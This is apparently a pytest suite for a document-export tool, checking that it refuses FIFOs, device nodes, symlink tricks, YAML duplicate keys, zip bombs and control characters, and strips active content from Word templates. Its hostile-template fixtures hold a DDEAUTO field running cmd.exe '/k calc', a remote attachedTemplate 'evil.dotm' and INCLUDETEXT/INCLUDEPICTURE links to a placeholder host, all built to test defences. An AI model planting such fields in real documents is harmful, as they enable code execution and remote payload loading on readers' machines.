"""Hostile paths, files and templates: one clear line each, and nothing not ours is replaced.

Every input is made here: FIFOs, device nodes, links, zips and templates are built in
code. Each test names the class of input it covers.
"""

from __future__ import annotations

import io
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import docx
import pytest

from somewizard import yamlio
from somewizard.errors import InputError

from .conftest import CliResult, write

Cli = Callable[..., CliResult]
PREFIX = "somewizard: error: "


def one_line(result: CliResult, *words: str) -> str:
    code, out, err = result
    assert code == 2, result
    assert "Traceback" not in err and err.count("\n") == 1 and err.startswith(PREFIX), err
    for word in words:
        assert word in err, (word, err)
    return err


def answers(tmp_path: Path, text: str = "organisation: {name: Butik}\n") -> Path:
    return write(tmp_path / "a.yaml", text)


# --- output paths ---------------------------------------------------------------------------


def test_a_fifo_at_the_output_path_is_never_replaced(cli: Cli, tmp_path: Path) -> None:
    fifo = tmp_path / "out.md"
    os.mkfifo(fifo)
    for force in ([], ["--force"]):
        one_line(cli("export", "-o", "out.md", *force), "not a regular file")
        assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_device_node_is_never_replaced(cli: Cli, tmp_path: Path) -> None:
    node = tmp_path / "null.md"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("making a device node needs root")
    one_line(cli("export", "-o", str(node), "--force"), "not a regular file")
    assert stat.S_ISCHR(os.lstat(node).st_mode)
    one_line(cli("export", "-o", "/dev/null", "--force", "--format", "md"), "not a regular file")
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_a_link_to_something_not_a_regular_file_is_refused(cli: Cli, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for target in ("/dev/null", str(tmp_path / "pipe"), str(tmp_path)):
        (tmp_path / "out.md").unlink(missing_ok=True)
        (tmp_path / "out.md").symlink_to(target)
        one_line(cli("export", "-o", "out.md", "--force"))
        assert (tmp_path / "out.md").is_symlink()
    assert stat.S_ISFIFO(os.lstat(tmp_path / "pipe").st_mode)


def test_a_link_is_replaced_only_with_force_and_its_target_never(cli: Cli, tmp_path: Path) -> None:
    target = write(tmp_path / "target.md", "the target\n")
    link = tmp_path / "out.md"
    link.symlink_to(target)
    one_line(cli("export", "-o", "out.md"), "a link of that name exists", "--force")
    assert link.is_symlink()
    (tmp_path / "dangling.md").symlink_to(tmp_path / "nowhere.md")
    one_line(cli("export", "-o", "dangling.md"), "a link of that name exists")
    assert not (tmp_path / "nowhere.md").exists()
    assert cli("export", "-o", "out.md", "--force")[0] == 0
    assert not link.is_symlink() and link.read_text().startswith("# ")
    assert target.read_text() == "the target\n"  # the target is left alone
    assert cli("export", "-o", "dangling.md", "--force")[0] == 0
    assert not (tmp_path / "nowhere.md").exists()


def test_force_keeps_the_replaced_files_permissions(cli: Cli, tmp_path: Path) -> None:
    old = write(tmp_path / "p.md", "old\n")
    old.chmod(0o600)
    assert cli("export", "-o", "p.md", "--force")[0] == 0
    assert stat.S_IMODE(old.stat().st_mode) == 0o600 and old.read_text() != "old\n"


def test_a_new_file_gets_the_umask_and_the_umask_is_never_changed(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_umask(_: int) -> int:
        raise AssertionError("the umask must not change in a threaded program")

    before = os.umask(0o027)
    os.umask(0o027)
    try:
        monkeypatch.setattr(os, "umask", no_umask)
        assert cli("export", "-o", "p.md")[0] == 0
    finally:
        monkeypatch.undo()
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "p.md").stat().st_mode) == 0o640


def test_two_writers_racing_for_one_new_name(tmp_path: Path) -> None:
    """The other writer takes the name while we write: we get 'file exists', not a win."""
    path = tmp_path / "p.md"
    with pytest.raises(InputError) as info, yamlio.atomic_writer(path, force=False) as fh:
        fh.write("ours")
        path.write_text("theirs")
    assert info.value.message == "file exists"
    assert path.read_text() == "theirs"
    assert [p.name for p in tmp_path.iterdir()] == ["p.md"]


def test_many_racing_exports_have_one_winner(tmp_path: Path) -> None:
    results: list[int] = []

    def export() -> None:
        proc = subprocess.run(
            [sys.executable, "-m", "somewizard", "export", "-o", "same.md"],
            cwd=tmp_path,
            capture_output=True,
            text=True,
        )
        results.append(proc.returncode)

    threads = [threading.Thread(target=export) for _ in range(4)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert sorted(results) == [0, 2, 2, 2]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["same.md"]


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_a_signal_during_the_write_leaves_no_temporary_file(tmp_path: Path, sig: int) -> None:
    driver = (
        "import os, sys, time\n"
        "from somewizard import yamlio\n"
        "from somewizard.cli import main\n"
        "real = os.fsync\n"
        "def slow(fd):\n"
        "    print('WRITING', flush=True); time.sleep(30)\n"
        "yamlio.os.fsync = slow\n"
        "sys.exit(main(['export', '-o', 'p.md']))\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", driver], cwd=tmp_path, stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "WRITING"
    assert [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    proc.send_signal(sig)
    assert proc.wait(timeout=20) == 128 + sig
    assert list(tmp_path.iterdir()) == []


def test_dash_writes_text_to_standard_output(cli: Cli, tmp_path: Path) -> None:
    code, out, err = cli("export", "-o", "-", "--format", "md")
    assert code == 0 and out.startswith("# ") and err == ""
    assert list(tmp_path.iterdir()) == []
    one_line(cli("export", "-o", "-"), "only text goes to standard output")
    one_line(cli("export", "-o", "-", "--format", "docx"), "only text")


def test_a_trailing_slash_is_a_folder_not_a_file(cli: Cli, tmp_path: Path) -> None:
    one_line(cli("export", "-o", "newdir/"), "folder name")
    assert list(tmp_path.iterdir()) == []


def test_a_long_legal_name_is_written(cli: Cli, tmp_path: Path) -> None:
    name = "p" * 250 + ".md"
    assert cli("export", "-o", name)[0] == 0
    assert (tmp_path / name).exists()


# --- what the YAML says vs what the user meant ----------------------------------------------


@pytest.mark.parametrize(
    ("text", "line", "field"),
    [
        ("organisation: {name: A}\norganisation: {name: B}\n", 2, "organisation"),
        ("organisation:\n  name: A\n  size: 1-9\n  name: B\n", 4, "organisation.name"),
        ("roles:\n  O1: {person: A, person: B}\n", 2, "roles.O1.person"),
    ],
)
def test_a_duplicate_key_is_refused(
    cli: Cli, tmp_path: Path, text: str, line: int, field: str
) -> None:
    answers(tmp_path, text)
    for args in (("check", "a.yaml"), ("export", "--answers", "a.yaml", "-o", "p.md")):
        err = one_line(cli(*args), f"a.yaml:{line}: {field}: duplicate key (first on line")
        assert "first on line" in err


def test_a_merge_key_may_still_be_overridden(cli: Cli, tmp_path: Path) -> None:
    answers(tmp_path, "x: &base {name: A, size: 1-9}\n")
    write(tmp_path / "a.yaml", "organisation:\n  <<: {name: A, size: 1-9}\n  name: B\n")
    code, out, err = cli("export", "--answers", "a.yaml", "-o", "-", "--format", "yaml")
    assert code == 0, err and "name: B" in out


def test_text_answers_are_read_as_written(cli: Cli, tmp_path: Path) -> None:
    answers(
        tmp_path,
        "organisation:\n  name: 2026\n  version: 1.10\n  contact: 0701234567\n"
        "  owner: yes\nroles:\n  O1: {contact: +4512345678, person: '1:20'}\n"
        "  O2: {contact: 1:20}\nvoice:\n  hashtags: []\n  examples: [1.10, 010]\n",
    )
    code, out, err = cli("export", "--answers", "a.yaml", "-o", "-", "--format", "yaml")
    assert code == 0, err
    import yaml

    data = yaml.safe_load(out)
    org = data["organisation"]
    assert (org["name"], org["version"], org["contact"], org["owner"]) == (
        "2026",
        "1.10",
        "0701234567",
        "yes",
    )
    assert data["roles"]["O1"]["contact"] == "+4512345678"
    assert data["roles"]["O2"]["contact"] == "1:20"
    assert data["voice"]["examples"] == ["1.10", "010"]
    assert data["organisation"]["review_months"] == 12  # numbers stay numbers


def test_an_alias_of_a_long_text_cannot_grow_without_end(cli: Cli, tmp_path: Path) -> None:
    big = "x" * 200_000
    answers(tmp_path, f"voice:\n  description: &d {big}\n  examples: [{', '.join(['*d'] * 40)}]\n")
    err = one_line(cli("check", "a.yaml"), "too much text")
    assert len(err) < 300
    assert not list(tmp_path.glob("*.md"))


@pytest.mark.parametrize(
    "escape", ["\\ud800", "\\0", "\\a", "\\e[31m", "\\u202e", "\\x7f", "\\u2066"]
)
def test_characters_no_answer_may_hold_are_one_line(cli: Cli, tmp_path: Path, escape: str) -> None:
    answers(tmp_path, f'organisation:\n  name: "Butik {escape} ApS"\n')
    for args in (
        ("check", "a.yaml"),
        ("export", "--answers", "a.yaml", "-o", "p.md"),
        ("export", "--answers", "a.yaml", "-o", "p.html"),
    ):
        err = one_line(cli(*args), "a.yaml:2:", "may not hold")
        assert "\x1b" not in err and "\u202e" not in err
    assert not list(tmp_path.glob("p.*"))


def test_an_escape_in_a_file_name_never_reaches_the_terminal(cli: Cli, tmp_path: Path) -> None:
    err = one_line(cli("check", "bad\x1b[2Jname.yaml"), "not found")
    assert "\x1b" not in err and "\\u001b" in err


def test_a_version_of_thousands_of_digits(cli: Cli, tmp_path: Path) -> None:
    answers(tmp_path, "organisation:\n  name: Butik\n  version: " + "1" * 6000 + "\n")
    code, out, err = cli("export", "--answers", "a.yaml", "-o", "p.md")
    assert code == 0, err
    assert "1" * 6000 in (tmp_path / "p.md").read_text()


# --- files that are not files ------------------------------------------------------------------


def _quick(cli: Cli, *args: str) -> CliResult:
    """Run the command as its own process; it fails the test if it blocks for 20 seconds."""
    del cli  # the fixture moved into the test's folder
    proc = subprocess.run(
        [sys.executable, "-m", "somewizard", *args], capture_output=True, text=True, timeout=20
    )
    return proc.returncode, proc.stdout, proc.stderr


def test_a_fifo_is_never_read(cli: Cli, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.yaml")
    os.mkfifo(tmp_path / "t.docx")
    one_line(_quick(cli, "check", "a.yaml"), "not a regular file")
    one_line(_quick(cli, "export", "--answers", "a.yaml", "-o", "p.docx"), "not a regular file")
    one_line(
        _quick(cli, "export", "--template", "t.docx", "-o", "p.docx"),
        "t.docx",
        "not a regular file",
    )
    one_line(_quick(cli, "export", "--template", ".", "-o", "p.docx"), "is a directory")


def test_a_fifo_among_the_users_presets(cli: Cli, tmp_path: Path) -> None:
    folder = Path(os.environ["SOMEWIZARD_CONFIG_DIR"]) / "presets" / "industries"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "pipe.yaml")
    code, out, err = _quick(cli, "presets")
    assert code == 0 and "retail" in out
    assert "pipe.yaml" in err and "not a regular file" in err and err.count("\n") == 1


async def test_a_fifo_among_the_users_presets_never_stops_the_start_screen() -> None:
    from somewizard.app import SomeWizardApp

    folder = Path(os.environ["SOMEWIZARD_CONFIG_DIR"]) / "presets" / "tones"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "pipe.yaml")
    app = SomeWizardApp()
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        assert any("pipe.yaml" in str(n.message) for n in app._notifications)
        await pilot.press("ctrl+n")
        assert app.is_running


def test_a_broken_own_preset_is_named_not_passed_over(cli: Cli, tmp_path: Path) -> None:
    folder = Path(os.environ["SOMEWIZARD_CONFIG_DIR"]) / "presets" / "industries"
    folder.mkdir(parents=True)
    write(folder / "retail.yaml", "preset:\n  kind: industry\nanswers:\n  voice: {hashtag: x}\n")
    write(folder / "mine.yaml", "preset:\n  kind: industry\nanswers:\n  organisation: [x]\n")
    one_line(
        cli("export", "--industry", "retail", "-o", "p.md"),
        "retail.yaml:4: voice.hashtag: unknown key",
    )
    one_line(
        cli("export", "--industry", "mine", "-o", "p.md"),
        "mine.yaml:4: organisation: expected a mapping",
    )


def test_a_link_loop_is_named(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").symlink_to(tmp_path / "b.yaml")
    (tmp_path / "b.yaml").symlink_to(tmp_path / "a.yaml")
    one_line(cli("check", "a.yaml"), "symbolic links")
    (tmp_path / "c.yaml").symlink_to(tmp_path / "none.yaml")
    one_line(cli("check", "c.yaml"), "is a link to a file that does not exist")


# --- inputs that were silently ignored ----------------------------------------------------------


def test_a_template_with_a_text_format_is_refused(cli: Cli, tmp_path: Path) -> None:
    write(tmp_path / "t.docx", "not even a zip")
    for fmt in ("md", "html", "yaml"):
        one_line(cli("export", "--template", "t.docx", "-o", f"p.{fmt}"), "only for docx and pdf")


def test_an_empty_preset_name_is_refused(cli: Cli) -> None:
    one_line(cli("export", "--industry", "", "-o", "p.md"), "--industry", "give the name")


def test_a_preset_cannot_set_the_language(cli: Cli, tmp_path: Path) -> None:
    write(tmp_path / "p.yaml", "preset:\n  kind: tone\nanswers:\n  language: en\n")
    one_line(cli("check", "p.yaml"), "p.yaml:4: language: a preset cannot set the language")


# --- templates ------------------------------------------------------------------------------------

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _plain_template() -> bytes:
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = "Brevpapir A/S"
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def _rezip(
    data: bytes,
    change: Callable[[dict[str, bytes]], None],
    extra: Sequence[tuple[str, bytes]] = (),
) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
        for name, body in extra:
            zf.writestr(name, body)
    return out.getvalue()


def _hostile_template() -> bytes:
    """Macros, an attached template from the net, a DDEAUTO field, an OLE object, a logo."""
    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c63f80f00000101000518d84e0000000049454e44ae426082"
    )

    def change(parts: dict[str, bytes]) -> None:
        rels = parts["word/_rels/document.xml.rels"].decode()
        rels = rels.replace(
            "</Relationships>",
            f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
            f'<Relationship Id="rIdExt" Type="{R}/hyperlink" Target="http://example.invalid/x" TargetMode="External"/>'
            "</Relationships>",
        )
        parts["word/_rels/document.xml.rels"] = rels.encode()
        parts["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/>'
            "</Relationships>"
        ).encode()
        settings = parts["word/settings.xml"].decode()
        settings = settings.replace(
            "</w:settings>", '<w:attachedTemplate r:id="rId1"/></w:settings>'
        )
        if f'xmlns:r="{R}"' not in settings:
            settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
        parts["word/settings.xml"] = settings.encode()
        header_name = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
        header = parts[header_name].decode()
        hostile = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE-RESULTAT</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            "<w:p><w:r><w:object><w:t>OLE</w:t></w:object></w:r>"
            '<w:fldSimple w:instr=" INCLUDETEXT http://example.invalid "><w:r><w:t>INKLUDERET</w:t></w:r></w:fldSimple>'
            '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
            '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rIdLogo"/></w:drawing></w:r></w:p>'
        )
        header = header.replace("</w:hdr>", hostile + "</w:hdr>")
        if "xmlns:r=" not in header.split(">", 2)[1]:
            header = header.replace("<w:hdr ", f'<w:hdr xmlns:r="{R}" ', 1)
        parts[header_name] = header.encode()
        parts[f"word/_rels/{header_name.split('/')[-1]}.rels"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdLogo" Type="{R}/image" Target="media/logo.png"/>'
            f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="embeddings/ole.bin"/>'
            "</Relationships>"
        ).encode()
        parts["word/media/logo.png"] = png
        parts["word/embeddings/ole.bin"] = b"OLE"
        parts["word/vbaProject.bin"] = b"macro"

    return _rezip(_plain_template(), change)


def test_a_template_keeps_its_letterhead_and_loses_what_is_active(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "t.docx").write_bytes(_hostile_template())
    code, out, err = cli("export", "--template", "t.docx", "-o", "p.docx")
    assert code == 0, err
    assert err.startswith("somewizard: note: ") and err.count("\n") == 1
    for what in (
        "makroer",
        "links til andre filer",
        "felter ud over sidetal",
        "indlejrede objekter",
    ):
        assert what in err, err
    assert "andet indhold" not in err, err  # nothing else was left out
    with zipfile.ZipFile(tmp_path / "p.docx") as zf:
        names = zf.namelist()
        xml = b"".join(zf.read(n) for n in names if n.endswith((".xml", ".rels")))
        assert len(names) == len(set(names))
        assert not [n for n in names if "vba" in n.lower() or "embeddings" in n]
        assert b"External" not in xml and b"attachedTemplate" not in xml
        assert b"DDEAUTO" not in xml and b"INCLUDETEXT" not in xml and b"w:object" not in xml
        assert b"calc" not in xml and b"OLE<" not in xml
        assert any(n.startswith("word/media/") for n in names)  # the logo stays
    word = docx.Document(str(tmp_path / "p.docx"))
    header = word.sections[0].header
    assert "Brevpapir A/S" in "\n".join(p.text for p in header.paragraphs)
    assert "PAGE" in header._element.xml


def test_a_template_without_numbering_or_with_odd_ids(cli: Cli, tmp_path: Path) -> None:
    def no_numbering(parts: dict[str, bytes]) -> None:
        del parts["word/numbering.xml"]
        rels = parts["word/_rels/document.xml.rels"]
        parts["word/_rels/document.xml.rels"] = rels.replace(b'"numbering.xml"', b'"gone.xml"')

    def odd_ids(parts: dict[str, bytes]) -> None:
        parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(
            b'w:numId="1"', b'w:numId="x1"', 1
        )

    for change in (no_numbering, odd_ids):
        (tmp_path / "t.docx").write_bytes(_rezip(_plain_template(), change))
        code, out, err = cli("export", "--template", "t.docx", "-o", "p.docx", "--force")
        assert code == 0 and "Traceback" not in err, err
        docx.Document(str(tmp_path / "p.docx"))


def test_a_template_saved_by_libreoffice_with_two_core_parts(cli: Cli, tmp_path: Path) -> None:
    core = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'
    data = _rezip(
        _plain_template(),
        lambda p: p.update({"docProps/core.xml": core}),
        [("docProps/core.xml", core)],
    )
    (tmp_path / "t.docx").write_bytes(data)
    proc = subprocess.run(
        [
            sys.executable,
            "-W",
            "error",
            "-m",
            "somewizard",
            "export",
            "--template",
            "t.docx",
            "-o",
            "p.docx",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
    with zipfile.ZipFile(tmp_path / "p.docx") as zf:
        names = zf.namelist()
        assert len(names) == len(set(names))
        assert b"DOCTYPE" not in zf.read("docProps/core.xml")
    docx.Document(str(tmp_path / "p.docx"))


def test_a_zip_bomb_template_is_refused_quickly(cli: Cli, tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/styles.xml", "w") as fh:
            chunk = b"\0" * 1_000_000
            for _ in range(200):
                fh.write(chunk)
    (tmp_path / "t.docx").write_bytes(out.getvalue())
    assert (tmp_path / "t.docx").stat().st_size < 1_000_000
    start = time.monotonic()
    one_line(cli("export", "--template", "t.docx", "-o", "p.docx"), "t.docx")
    assert time.monotonic() - start < 10
    assert not (tmp_path / "p.docx").exists()


# --- the wizard ---------------------------------------------------------------------------------------


async def test_an_unforeseen_error_in_a_worker_is_a_message_not_a_crash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from somewizard import export as export_module
    from somewizard.app import SomeWizardApp

    from .wizard_helpers import settle

    def broken(*_: object, **__: object) -> bytes:
        raise RuntimeError("the disk said no")

    monkeypatch.setattr(export_module, "render_bytes", broken)
    monkeypatch.chdir(tmp_path)
    app = SomeWizardApp()
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.press("ctrl+e", "enter")
        await settle(app, pilot)
        assert app.is_running
        messages = [str(n.message) for n in app._notifications]
        assert any("Noget uventet gik galt" in m and "the disk said no" in m for m in messages)
        assert type(app.screen).__name__ == "StartScreen"


async def test_markup_in_what_the_user_typed_or_named_is_shown_as_text(tmp_path: Path) -> None:
    """A hashtag '[/]x' or a file called '[/]x.yaml' is text, not markup that stops the app."""
    from textual.widgets import TextArea

    from somewizard.app import SomeWizardApp

    from .wizard_helpers import settle

    odd = write(tmp_path / "[red]rød[@click=app.quit].yaml", "organisation: {name: '[/]Butik'}\n")
    app = SomeWizardApp()
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.press("ctrl+n")
        await pilot.press("alt+3")
        area = app.screen.query_one("#f-voice-hashtags", TextArea)
        area.text = "[/]x"
        await pilot.pause()
        message = app.screen.query_one("#step-voice .-invalid .field-message")
        assert "[/]x" in str(message.render())
        app.open_file(odd)
        await settle(app, pilot)
        assert app.is_running
        opened = [n for n in app._notifications if "[red]rød[@click=app.quit].yaml" in n.message]
        assert opened and not any(n.markup for n in app._notifications)
        assert app.session.answers().organisation.name == "[/]Butik"
        await pilot.press("alt+8", "ctrl+e")
        await pilot.pause()
        assert app.is_running


def test_a_signal_during_a_pdf_ends_the_converter_and_its_folder(tmp_path: Path) -> None:
    """SIGTERM while LibreOffice converts: its whole process group ends, its folder goes."""
    fake = tmp_path / "bin" / "soffice"
    fake.parent.mkdir()
    fake.write_text(
        '#!/bin/sh\nsleep 60 &\necho $! > "$MARK/child.pid"\nwait\n',
        encoding="utf-8",
    )
    fake.chmod(0o755)
    temp = tmp_path / "tmp"
    temp.mkdir()
    env = {
        **os.environ,
        "PATH": f"{fake.parent}{os.pathsep}{os.environ['PATH']}",
        "MARK": str(tmp_path),
        "TMPDIR": str(temp),
    }
    proc = subprocess.Popen(
        [sys.executable, "-m", "somewizard", "export", "-o", "p.pdf"], cwd=tmp_path, env=env
    )
    child = tmp_path / "child.pid"
    for _ in range(200):
        if child.exists() and child.read_text().strip():
            break
        time.sleep(0.05)
    assert [p.name for p in temp.iterdir() if p.name.startswith("somewizard-pdf-")]
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=20) == 128 + signal.SIGTERM
    assert list(temp.iterdir()) == []
    pid = int(child.read_text())
    for _ in range(100):
        state = Path(f"/proc/{pid}/stat")
        if not state.exists() or state.read_text().rpartition(")")[2].split()[0] == "Z":
            break
        time.sleep(0.05)
    else:
        raise AssertionError("LibreOffice's child process is still running")
    assert not (tmp_path / "p.pdf").exists()


def test_a_template_whose_parts_are_named_from_the_root(cli: Cli, tmp_path: Path) -> None:
    from docx.shared import RGBColor

    word = docx.Document()
    word.styles["Heading 1"].font.color.rgb = RGBColor(0xC0, 0x00, 0x00)
    buffer = io.BytesIO()
    word.save(buffer)

    def absolute(parts: dict[str, bytes]) -> None:
        rels = parts["word/_rels/document.xml.rels"]
        parts["word/_rels/document.xml.rels"] = rels.replace(
            b'Target="styles.xml"', b'Target="/word/styles.xml"'
        )

    (tmp_path / "t.docx").write_bytes(_rezip(buffer.getvalue(), absolute))
    code, _, err = cli("export", "--template", "t.docx", "-o", "p.docx")
    assert code == 0, err
    out = docx.Document(str(tmp_path / "p.docx"))
    assert out.styles["Heading 1"].font.color.rgb == RGBColor(0xC0, 0x00, 0x00)


def _template_with(change: Callable[[dict[str, bytes]], None]) -> bytes:
    return _rezip(_plain_template(), change)


def test_odd_templates_are_one_line_or_work(cli: Cli, tmp_path: Path) -> None:
    """Corrupt data, a header named like the styles, no page setup, a flood of elements."""

    def corrupt(parts: dict[str, bytes]) -> None:
        pass

    good = _template_with(corrupt)
    # corrupt deflate data inside the styles entry
    offset = good.find(b"word/styles.xml") + len(b"word/styles.xml") + 40
    broken = (
        good[:offset] + bytes(b ^ 0xFF for b in good[offset : offset + 64]) + good[offset + 64 :]
    )

    def header_as_styles(parts: dict[str, bytes]) -> None:
        header = next(n for n in parts if n.startswith("word/header"))
        parts["word/sub/styles.xml"] = parts.pop(header)
        rels = parts["word/_rels/document.xml.rels"].decode()
        parts["word/_rels/document.xml.rels"] = rels.replace(
            f'Target="{header.split("/")[-1]}"', 'Target="sub/styles.xml"'
        ).encode()

    def no_page_setup(parts: dict[str, bytes]) -> None:
        doc = parts["word/document.xml"].decode()
        start = doc.index("<w:sectPr")
        end = doc.index("</w:sectPr>") + len("</w:sectPr>")
        parts["word/document.xml"] = (doc[:start] + doc[end:]).encode()

    def flood(parts: dict[str, bytes]) -> None:
        parts["word/fontTable.xml"] = (
            b'<?xml version="1.0"?><w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            + b"<a/>" * 2_000_000
            + b"</w:fonts>"
        )

    cases = {
        "broken": broken,
        "header": _template_with(header_as_styles),
        "nosect": _template_with(no_page_setup),
        "flood": _template_with(flood),
    }
    for name, data in cases.items():
        (tmp_path / f"{name}.docx").write_bytes(data)
        code, out, err = cli("export", "--template", f"{name}.docx", "-o", f"{name}-out.docx")
        assert "Traceback" not in err and code in (0, 2), (name, err)
        if code == 2:
            assert err.count("\n") == 1 and f"{name}.docx" in err, (name, err)
        else:
            docx.Document(str(tmp_path / f"{name}-out.docx"))
    assert cli("export", "--template", "header.docx", "-o", "h.docx")[0] == 0
    assert cli("export", "--template", "nosect.docx", "-o", "n.docx")[0] == 0


def test_a_field_code_in_the_run_that_begins_it_is_read(cli: Cli, tmp_path: Path) -> None:
    def sneaky(parts: dict[str, bytes]) -> None:
        header = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
        xml = parts[header].decode()
        field = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/>'
            '<w:instrText> INCLUDEPICTURE "http://example.invalid/x.png" \\d </w:instrText></w:r>'
            "<w:r><w:instrText> PAGE </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText> DDEAUTO never ends </w:instrText></w:r></w:p>"
        )
        parts[header] = xml.replace("</w:hdr>", field + "</w:hdr>").encode()

    (tmp_path / "t.docx").write_bytes(_template_with(sneaky))
    code, _, err = cli("export", "--template", "t.docx", "-o", "p.docx")
    assert code == 0 and "felter ud over sidetal" in err, err
    with zipfile.ZipFile(tmp_path / "p.docx") as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("word/header"))
    assert b"INCLUDEPICTURE" not in xml and b"DDEAUTO" not in xml and b"example.invalid" not in xml
